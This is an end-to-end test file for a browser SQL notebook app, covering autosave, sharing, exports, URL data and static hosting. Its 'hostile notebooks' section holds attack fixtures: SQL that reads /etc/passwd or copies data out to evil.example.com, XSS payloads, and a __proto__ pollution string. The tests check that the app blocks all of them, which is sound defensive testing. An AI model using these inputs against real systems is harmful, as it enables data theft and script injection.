/**
 * The notebook lives on: autosave survives a reload and a killed browser, a shared link opens
 * in review mode in a fresh profile, hostile notebooks can do no harm, and the app works from
 * a sub-path of a static host.
 */
import { afterAll, describe, expect, inject, test } from 'vitest';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { closeBrowser, openApp } from './browser';
import { toDocument, type NotebookDoc } from '../../src/lib/notebook/document';
import { encodeShareFragment } from '../../src/lib/notebook/share-link';
import type { Cell } from '../../src/lib/notebook/cells';

const ARGS = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'];
const dirs: string[] = [];
afterAll(async () => {
  await closeBrowser();
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

async function persistent(dir: string): Promise<{ context: BrowserContext; page: Page }> {
  const context = await chromium.launchPersistentContext(dir, { executablePath: process.env.CHROMIUM_PATH || '/usr/bin/chromium', headless: true, args: ARGS });
  const page = context.pages()[0] ?? (await context.newPage());
  return { context, page };
}

/** SIGKILLs every Chromium process using profile `dir`, as a crash or a killed tab would end them. */
function killProfileBrowsers(dir: string): void {
  for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    try {
      const cmd = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      if (cmd.includes(dir) && /chrom/i.test(cmd.split('\0')[0])) process.kill(Number(pid), 'SIGKILL');
    } catch {
      /* gone already */
    }
  }
}

async function ready(page: Page): Promise<void> {
  await page.waitForSelector('html[data-ready="true"]', { timeout: 90_000 });
}

async function typeSql(page: Page, sql: string): Promise<void> {
  await page.getByTestId('add-sql').last().click();
  const editor = page.getByTestId('cell').last().locator('.cm-content');
  await editor.click();
  await page.keyboard.press('ControlOrMeta+a');
  await editor.fill(sql);
}

/** The link "Copy share link" made (also written to the clipboard), once it exists. */
async function sharedLink(page: Page): Promise<string> {
  await page.waitForFunction(() => typeof (window as unknown as { __segnoteLastLink?: string }).__segnoteLastLink === 'string');
  return page.evaluate(() => (window as unknown as { __segnoteLastLink: string }).__segnoteLastLink);
}

async function typeSqlAndRun(page: Page, sql: string): Promise<void> {
  await typeSql(page, sql);
  await page.keyboard.press('Control+Enter');
  await page.getByTestId('cell').last().and(page.locator('[data-status="done"], [data-status="error"]')).waitFor();
}

describe('reactive cells', () => {
  async function sqlCell(page: Page, sql: string): Promise<string> {
    await typeSql(page, sql);
    await page.keyboard.press('Control+Enter');
    const last = page.getByTestId('cell').last();
    await last.and(page.locator('[data-status="done"], [data-status="error"]')).waitFor();
    return (await last.getAttribute('data-name'))!;
  }
  const cellOf = (page: Page, name: string) => page.locator(`[data-testid="cell"][data-name="${name}"]`);
  const firstValue = async (page: Page, name: string, expected: string) =>
    cellOf(page, name).locator('[data-row="0"] .td').first().filter({ hasText: new RegExp(`^${expected}$`) }).waitFor();

  async function setSql(page: Page, name: string, sql: string): Promise<void> {
    const editor = cellOf(page, name).locator('.cm-content');
    await editor.click();
    await page.keyboard.press('ControlOrMeta+a');
    await editor.fill(sql);
    await page.keyboard.press('Control+Enter');
  }

  test('changing a cell re-runs the cells that read it, in order; with auto-run off they wait as stale', async () => {
    const app = await openApp();
    try {
      const a = await sqlCell(app.page, 'SELECT 1 AS v');
      const b = await sqlCell(app.page, `SELECT v * 10 AS v FROM ${a}`);
      const c = await sqlCell(app.page, `SELECT v + 1 AS v FROM ${b}`);
      await firstValue(app.page, c, '11');
      await setSql(app.page, a, 'SELECT 2 AS v');
      await firstValue(app.page, c, '21');
      await firstValue(app.page, b, '20');

      await app.page.getByTestId('notebooks-button').click();
      await app.page.getByTestId('auto-run').uncheck();
      await app.page.getByTestId('notebooks-button').click();
      await setSql(app.page, a, 'SELECT 3 AS v');
      await cellOf(app.page, c).and(app.page.locator('[data-status="stale"]')).waitFor();
      expect(await cellOf(app.page, b).getAttribute('data-status')).toBe('stale');
      await app.page.getByTestId('run-stale').click();
      await firstValue(app.page, c, '31');
      expect(await app.page.getByTestId('run-stale').count()).toBe(0);
    } finally {
      await app.close();
    }
  });

  test('a cycle is reported on the cell; a rename updates the cells that read it', async () => {
    const app = await openApp();
    try {
      const a = await sqlCell(app.page, 'SELECT 1 AS v');
      const b = await sqlCell(app.page, `SELECT v + 1 AS v FROM ${a}`);
      await setSql(app.page, a, `SELECT v FROM ${b}`);
      await cellOf(app.page, a).getByTestId('cell-error').filter({ hasText: 'cycle' }).waitFor();
      expect(await cellOf(app.page, a).getByTestId('cell-error').textContent()).toContain(`${a} → ${b} → ${a}`);
      await setSql(app.page, a, 'SELECT 5 AS v');
      await firstValue(app.page, b, '6');
      const input = cellOf(app.page, a).getByTestId('cell-name');
      await input.fill('base_value');
      await input.press('Enter');
      await cellOf(app.page, 'base_value').waitFor();
      expect(await cellOf(app.page, b).locator('.cm-content').textContent()).toBe('SELECT v + 1 AS v FROM base_value');
      await setSql(app.page, 'base_value', 'SELECT 7 AS v');
      await firstValue(app.page, b, '8');
    } finally {
      await app.close();
    }
  });

  test('reloading a table re-runs the cells that read it', async () => {
    const app = await openApp();
    try {
      await app.page.getByTestId('file-input').setInputFiles([{ name: 'nums.csv', mimeType: 'text/csv', buffer: Buffer.from('n;m\n1;2\n3;4\n') }]);
      await app.page.locator('[data-table="nums"]').waitFor();
      const a = await sqlCell(app.page, 'SELECT count(*) AS k FROM nums');
      await firstValue(app.page, a, '2');
      // Reload the same file with "skip malformed rows" as a new load of the table: the cell follows.
      await app.page.locator('[data-table="nums"] button.row').click();
      await app.page.locator('[data-table="nums"]').getByRole('button', { name: 'Reload with options' }).click();
      await app.page.locator('[data-table="nums"]').getByLabel('Header').uncheck();
      await app.page.locator('[data-table="nums"]').getByRole('button', { name: 'Reload', exact: true }).click();
      await firstValue(app.page, a, '3');
    } finally {
      await app.close();
    }
  });
});

describe('autosave', () => {
  test('an edit made a moment before the browser is killed is back after a restart, with the loaded file', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'segnote-profile-'));
    dirs.push(dir);
    const url = inject('baseUrl');
    let { context, page } = await persistent(dir);
    await page.goto(url);
    await ready(page);
    await page.getByTestId('file-input').setInputFiles([{ name: 'kept.csv', mimeType: 'text/csv', buffer: Buffer.from('v\n40\n2\n') }]);
    await page.locator('[data-table="kept"]').waitFor();
    await typeSql(page, 'SELECT sum(v) AS answer FROM kept -- typed just before the crash');
    await page.getByTestId('save-state').and(page.locator('[data-state="saved"]')).waitFor();
    // Kill the browser outright: no unload handlers, no graceful shutdown.
    killProfileBrowsers(dir);
    await context.close().catch(() => undefined);
    ({ context, page } = await persistent(dir));
    try {
      await page.goto(url);
      await ready(page);
      const last = page.getByTestId('cell').last();
      expect(await last.locator('.cm-content').textContent()).toBe('SELECT sum(v) AS answer FROM kept -- typed just before the crash');
      await page.locator('[data-table="kept"]').waitFor();
      await last.and(page.locator('[data-status="done"]')).waitFor();
      await last.locator('[data-row="0"] .td').first().filter({ hasText: /^42$/ }).waitFor();
    } finally {
      await context.close();
    }
  });
});

describe('sharing', () => {
  test('a shared link opens in review mode in a fresh profile; nothing runs until approved; results match', async () => {
    const app = await openApp();
    try {
      await typeSql(app.page, "SELECT channel, count(*) AS n FROM orders GROUP BY channel ORDER BY channel");
      await app.page.keyboard.press('Control+Enter');
      const last = app.page.getByTestId('cell').last();
      await last.and(app.page.locator('[data-status="done"]')).waitFor();
      const name = (await last.getAttribute('data-name'))!;
      const sharedRows = await last.getByTestId('row-count').getAttribute('data-rows');
      await app.page.getByTestId('notebooks-button').click();
      await app.page.getByTestId('nb-share').click();
      const link = await sharedLink(app.page);
      expect(link).toMatch(/#nb=[A-Za-z0-9_-]+$/);

      const other = await openApp({ path: link.slice(link.indexOf('#')) });
      try {
        const review = other.page.getByTestId('review-panel');
        await review.waitFor();
        const sql = await other.page.getByTestId('review-sql').allTextContents();
        expect(sql).toContain('SELECT channel, count(*) AS n FROM orders GROUP BY channel ORDER BY channel');
        expect(await other.page.getByTestId('cell').count()).toBe(0);
        expect(await other.page.locator('[data-testid="review-table"][data-status="matched"]').count()).toBeGreaterThan(0);
        await other.page.getByTestId('review-run').click();
        const cell = other.page.locator(`[data-testid="cell"][data-name="${name}"]`);
        await cell.and(other.page.locator('[data-status="done"]')).waitFor();
        expect(await cell.getByTestId('row-count').getAttribute('data-rows')).toBe(sharedRows);
        expect(other.foreignRequests).toEqual([]);
      } finally {
        await other.close();
      }
    } finally {
      await app.close();
    }
  });
});

describe('notebook files', () => {
  test('an exported notebook file lists its expected tables and opens elsewhere in review mode', async () => {
    const app = await openApp();
    try {
      const downloading = app.page.waitForEvent('download');
      await app.page.getByTestId('notebooks-button').click();
      await app.page.getByTestId('nb-export').click();
      const file = await downloading;
      const text = readFileSync((await file.path())!, 'utf8');
      const doc = JSON.parse(text) as NotebookDoc;
      expect(doc.format).toBe('segnote-notebook');
      expect(doc.version).toBe(3); // issue 14: CLV calibration end became the last day; issue 15: built-in segment names stored as keys
      expect(doc.tables.map((t) => t.name).sort()).toEqual(['customers', 'orders']);
      expect(doc.tables.find((t) => t.name === 'orders')?.columns.find((c) => c.name === 'order_date')?.type).toBe('DATE');
      expect(text).not.toContain('C00001');

      const other = await openApp();
      try {
        await other.page.getByTestId('notebook-file-input').setInputFiles([{ name: 'shared.segnote.json', mimeType: 'application/json', buffer: Buffer.from(text) }]);
        await other.page.getByTestId('review-panel').waitFor();
        expect(await other.page.locator('[data-testid="review-table"][data-status="matched"]').count()).toBe(2);
        await other.page.getByTestId('review-discard').click();
        await other.page.getByTestId('review-panel').waitFor({ state: 'detached' });
        await other.page.getByTestId('notebook-file-input').setInputFiles([{ name: 'bad.json', mimeType: 'application/json', buffer: Buffer.from('{"format":"something-else"}') }]);
        expect(await other.page.getByTestId('library-message').textContent()).toMatch(/not a Segnote notebook/);
      } finally {
        await other.close();
      }
    } finally {
      await app.close();
    }
  });
});

describe('notebook files with data', () => {
  test('only when asked, the file carries the tables it reads; the receiver loads them from it', async () => {
    const app = await openApp();
    try {
      await app.page.getByTestId('file-input').setInputFiles([{ name: 'targets.csv', mimeType: 'text/csv', buffer: Buffer.from('region,target\n北区,100\nSouth,250\n') }]);
      await app.page.locator('[data-table="targets"]').waitFor();
      await typeSqlAndRun(app.page, 'SELECT sum(target) AS total FROM targets');
      const plain = app.page.waitForEvent('download');
      await app.page.getByTestId('notebooks-button').click();
      await app.page.getByTestId('nb-export').click();
      expect(readFileSync((await (await plain).path())!, 'utf8')).not.toContain('"data"');
      const withData = app.page.waitForEvent('download');
      await app.page.getByTestId('notebooks-button').click();
      await app.page.getByTestId('nb-export-data').click();
      const text = readFileSync((await (await withData).path())!, 'utf8');
      const doc = JSON.parse(text) as NotebookDoc;
      expect(doc.tables.find((t) => t.name === 'targets')?.data?.format).toBe('parquet');

      const other = await openApp();
      try {
        await other.page.getByTestId('notebook-file-input').setInputFiles([{ name: 'with-data.segnote.json', mimeType: 'application/json', buffer: Buffer.from(text) }]);
        const row = other.page.locator('[data-testid="review-table"]', { hasText: 'targets' });
        await row.and(other.page.locator('[data-status="missing"]')).waitFor();
        await row.getByTestId('review-load-data').click();
        await row.and(other.page.locator('[data-status="matched"]')).waitFor();
        await other.page.getByTestId('review-run').click();
        const cell = other.page.getByTestId('cell').last();
        await cell.and(other.page.locator('[data-status="done"]')).waitFor();
        await cell.locator('[data-row="0"] .td').first().filter({ hasText: /^350$/ }).waitFor();
        expect(other.foreignRequests).toEqual([]);
      } finally {
        await other.close();
      }
    } finally {
      await app.close();
    }
  });
});

describe('hostile notebooks', () => {
  const hostileCells = [
    { id: 'h1', kind: 'sql', name: 'read_passwd', sql: "SELECT * FROM read_csv('/etc/passwd')" },
    { id: 'h2', kind: 'sql', name: 'fetch_out', sql: "SELECT * FROM read_csv('https://evil.example.com/x.csv')" },
    { id: 'h3', kind: 'sql', name: 'copy_out', sql: "COPY (SELECT * FROM orders) TO 'https://evil.example.com/steal.csv'" },
    { id: 'h4', kind: 'sql', name: 'load_ext', sql: 'INSTALL httpfs; LOAD httpfs' },
    { id: 'h5', kind: 'sql', name: 'unlock', sql: 'SET enable_external_access = true' },
    { id: 'h6', kind: 'sql', name: 'attach', sql: "ATTACH 'https://evil.example.com/db.duckdb' AS evil" },
    { id: 'h7', kind: 'sql', name: '<img src=x onerror="window.__pwned=1">', sql: `SELECT '<script>window.__pwned=2</script>' AS "<img src=y onerror=window.__pwned=3>", 'javascript:window.__pwned=4' AS link` },
    { id: 'h8', kind: 'notes', name: 'notes', text: '<script>window.__pwned=5</script>\n\n[click](javascript:window.__pwned=6)\n\n<img src=z onerror="window.__pwned=7">' },
    { id: 'h9', kind: 'chart', name: 'chart"<b>', spec: { source: '<svg onload=window.__pwned=8>', mark: 'bar', x: '<b>x</b>', y: null, color: null, aggregate: 'count' } },
  ] as Cell[];

  test('after approval they fail or show text, with no request outside the origin, no script and no polluted prototype', async () => {
    const doc: NotebookDoc = toDocument('Hostile <script>window.__pwned=9</script>', hostileCells, { autoRun: true }, [{ name: '__proto__', columns: [] }]);
    const fragment = await encodeShareFragment(doc);
    const app = await openApp({ path: fragment });
    try {
      await app.page.getByTestId('review-panel').waitFor();
      // The review shows the statements as text.
      expect((await app.page.getByTestId('review-sql').allTextContents()).join('\n')).toContain('/etc/passwd');
      await app.page.getByTestId('review-run').click();
      for (const name of ['read_passwd', 'fetch_out', 'copy_out', 'load_ext', 'unlock', 'attach']) {
        const cell = app.page.locator(`[data-testid="cell"][data-name="${name}"]`);
        await cell.and(app.page.locator('[data-status="error"]')).waitFor();
      }
      const injected = app.page.locator('[data-testid="cell"][data-name^="<img"]');
      await injected.and(app.page.locator('[data-status="done"]')).waitFor();
      expect(await injected.locator('.td').first().filter({ hasNotText: 'Loading' }).textContent()).toBe('<script>window.__pwned=2</script>');
      await app.page.waitForTimeout(0);
      const result = await app.page.evaluate(() => ({
        pwned: (window as unknown as { __pwned?: number }).__pwned,
        protoKeys: Object.getOwnPropertyNames(Object.prototype).sort().join(','),
        polluted: ({} as Record<string, unknown>).polluted,
      }));
      expect(result.pwned).toBeUndefined();
      expect(result.polluted).toBeUndefined();
      expect(result.protoKeys).toBe(Object.getOwnPropertyNames(Object.prototype).sort().join(','));
      expect(app.foreignRequests).toEqual([]);
      expect(app.pageErrors).toEqual([]);
    } finally {
      await app.close();
    }
  });

  test('a notebook link with prototype-pollution keys is refused with a message', async () => {
    const raw = `{"format":"segnote-notebook","version":1,"cells":[],"__proto__":{"polluted":true}}`;
    const bytes = new Uint8Array(await new Response(new Blob([raw]).stream().pipeThrough(new CompressionStream('deflate-raw'))).arrayBuffer());
    const fragment = `#nb=${Buffer.from(bytes).toString('base64url')}`;
    const app = await openApp({ path: fragment });
    try {
      await app.page.getByTestId('library-message').waitFor();
      expect(await app.page.getByTestId('library-message').textContent()).toMatch(/forbidden key "__proto__"/);
      expect(await app.page.evaluate(() => ({} as Record<string, unknown>).polluted)).toBeUndefined();
      expect(await app.page.getByTestId('cell').count()).toBeGreaterThan(0);
    } finally {
      await app.close();
    }
  });
});

describe('data from a URL', () => {
  test('nothing is fetched from another origin until the user approves it; then the table loads and a shared notebook can name it', async () => {
    // A second origin: another port on this machine, serving one CSV with CORS allowed.
    const hits: string[] = [];
    const server = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/csv', 'access-control-allow-origin': '*' });
      res.end('region,target\nNorth,100\nSouth,250\n');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const dataUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/targets.csv`;
    const app = await openApp();
    try {
      const answers: (string | boolean)[] = [dataUrl, false, dataUrl, true];
      app.page.removeAllListeners('dialog');
      app.page.on('dialog', (d) => {
        const a = answers.shift();
        if (a === false) void d.dismiss();
        else void d.accept(typeof a === 'string' ? a : undefined);
      });
      // First try: the user declines the origin: no request is made.
      await app.page.getByTestId('add-url').click();
      await expect.poll(() => answers.length).toBe(2);
      expect(hits).toEqual([]);
      expect(app.foreignRequests).toEqual([]);
      // Second try: approved, downloaded, loaded.
      await app.page.getByTestId('add-url').click();
      await app.page.locator('[data-table="targets"]').waitFor();
      expect(hits).toEqual(['/targets.csv']);
      expect(app.foreignRequests.every((u) => u.startsWith(new URL(dataUrl).origin))).toBe(true);

      // A shared notebook that reads it names the URL; the receiver loads it only on request.
      await typeSqlAndRun(app.page, 'SELECT sum(target) AS total FROM targets');
      await app.page.getByTestId('notebooks-button').click();
      await app.page.getByTestId('nb-share').click();
      const link = await sharedLink(app.page);
      const other = await openApp({ path: link.slice(link.indexOf('#')) });
      try {
        await other.page.getByTestId('review-panel').waitFor();
        const row = other.page.locator('[data-testid="review-table"][data-status="missing"]');
        expect(await row.textContent()).toContain('targets');
        expect(other.foreignRequests).toEqual([]);
        await row.getByTestId('review-load-url').click();
        await other.page.locator('[data-testid="review-table"][data-status="matched"]', { hasText: 'targets' }).waitFor();
        expect(hits).toEqual(['/targets.csv', '/targets.csv']);
      } finally {
        await other.close();
      }
    } finally {
      await app.close();
      server.close();
    }
  });
});

describe('static hosting', () => {
  test('the built app works from a sub-path of a plain static host', async () => {
    const base = new URL(inject('baseUrl'));
    const app = await openApp({ waitReady: false, path: 'about:blank' });
    try {
      // The host serves the built app under /team/segnote/ and nothing else: a request for
      // /assets/... (an absolute path) would fail, as it would on a project page.
      const outside: string[] = [];
      await app.context.route(`${base.origin}/**`, async (route) => {
        const url = new URL(route.request().url());
        if (!url.pathname.startsWith('/team/segnote/')) {
          outside.push(url.pathname);
          return route.fulfill({ status: 404, body: 'not here' });
        }
        url.pathname = url.pathname.replace('/team/segnote/', '/');
        await route.fulfill({ response: await route.fetch({ url: url.toString() }) });
      });
      await app.page.goto(`${base.origin}/team/segnote/`);
      await ready(app.page);
      expect(await app.page.locator('[data-name="monthly_revenue"]').getAttribute('data-status')).toBe('done');
      expect(outside).toEqual([]);
      expect(app.foreignRequests).toEqual([]);
    } finally {
      // The service worker may still be caching files for offline use through the route.
      await app.context.unrouteAll({ behavior: 'ignoreErrors' });
      await app.close();
    }
  });
});
